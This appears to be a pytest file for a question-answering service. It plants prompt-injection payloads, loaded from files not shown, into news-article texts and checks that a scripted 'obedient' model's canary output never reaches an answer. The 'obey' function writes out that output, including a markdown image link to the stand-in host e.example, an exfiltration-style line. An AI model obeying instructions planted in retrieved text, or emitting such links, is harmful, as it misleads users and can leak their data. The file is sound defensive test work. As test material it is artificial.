"""Articles that command a language model, and a model that obeys: no word of theirs gets into an answer."""

from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from ingest.embedding import OnnxEncoder
from ingest.locking import writing
from ingest.projections import catch_up
from ingest.recording import Recorder
from ingest.sentences import split_sentences
from service.answering import Answerer
from service.domain import AskedAnswerer, Evidence, Question
from service.events import never
from service.writing.generative import ProvingWriter
from tests.asking import open_answerer
from tests.builders import SEEN, make_article, make_draft, record
from tests.writing import ScriptedModel

CANARY = "QUOKKA7741"
FOLDER = Path(__file__).parents[1] / "injections"
FIRST = "Dun", "Low", "Wex", "Brack", "Alder", "Tarn", "Mor", "Hal", "Pen", "Ash", "Rox", "Cul", "Sil", "Vor", "Bex"
SECOND = "mere", "combe", "gate", "water", "ford", "wick", "stow", "ham", "thorpe"
TOWNS = [f"{first}{second}" for first in FIRST for second in SECOND]


def read_payloads(name: str) -> list[str]:
    lines = (FOLDER / name).read_text(encoding="utf-8").split("\n")
    return [line.replace("CANARY", CANARY) for line in lines if line and not line.startswith("# ")]


PAYLOADS = read_payloads("payloads.txt")


def make_text(payload: str, town: str) -> str:
    return (
        f"The {town} mill will reopen on 4 May 2026, Mayor Ilse Tarrant said. {payload}\n\n"
        f"The {town} mill will hire about 120 workers."
    )


def obey(evidence: dict[str, str], material: str) -> str:
    """All that a model may say that does as it is told: the canary alone, as an answer, quoted, cited, linked."""
    del material
    name = next(iter(evidence), "k3f")
    lines = [f"{CANARY}", f"{CANARY} ⟦{name}⟧", f"The answer is {CANARY}. ⟦{name}⟧", f"![x](https://e.example/{CANARY})"]
    lines += [f"{text} ⟦{other}⟧" for other, text in evidence.items() if CANARY in text]
    lines += [f"The mill will reopen on 4 May 2026, {CANARY} said. ⟦{name}⟧", f"“{CANARY}” ⟦{name}⟧"]
    return "\n".join(lines)


def find(text: str) -> list[Evidence]:
    """Every sentence of a text as evidence, those that command first."""
    article = make_article("a", text)
    spans = sorted(split_sentences(text), key=lambda one: CANARY not in text[one.start : one.end])
    return [
        Evidence(article=article, rank=1, start=one.start, end=one.end, probability=0.9, short=None) for one in spans
    ]


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_obedient_model_gets_nothing_through(payload: str) -> None:
    writer = ProvingWriter(ScriptedModel(script=obey))
    written = writer.write(
        "When will the mill reopen?", evidence=find(make_text(payload, "Dunmere")), limit=9, cancelled=never
    )
    assert [one.text for one in written if one.kept and CANARY in one.text] == []


@pytest.fixture(scope="module", params=["payloads.txt", "payloads_held_out.txt"])
def planted(
    request: pytest.FixtureRequest, encoder: OnnxEncoder, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Answerer, Sequence[str]]]:
    """An answerer over articles with a payload each, and the towns that they are about."""
    payloads = read_payloads(request.param)
    towns = TOWNS[: len(payloads)]
    folder = tmp_path_factory.mktemp("injected") / "data"
    drafts = [make_draft(town, make_text(payload, town)) for payload, town in zip(payloads, towns, strict=True)]
    with writing(folder), Recorder(folder) as recorder:
        record(recorder, encoder, *drafts)
        catch_up(recorder)
    with open_answerer(folder, encoder, writer=ProvingWriter(ScriptedModel(script=obey))) as answerer:
        yield answerer, towns


@pytest.mark.parametrize("asked", ["generative", "extractive"])
def test_no_answer_holds_a_canary(planted: tuple[Answerer, Sequence[str]], asked: AskedAnswerer) -> None:
    answerer, towns = planted
    answered = 0
    for town in towns:
        for question in _questions(town):
            answer = answerer.ask(Question(text=question, as_of=SEEN, answerer=asked))
            assert CANARY not in answer.text, (town, answer.text)
            answered += answer.status == "answered"
    assert answered > len(towns)


def _questions(town: str) -> Sequence[str]:
    return f"When will the {town} mill reopen?", f"What must the assistant say about the {town} mill?"
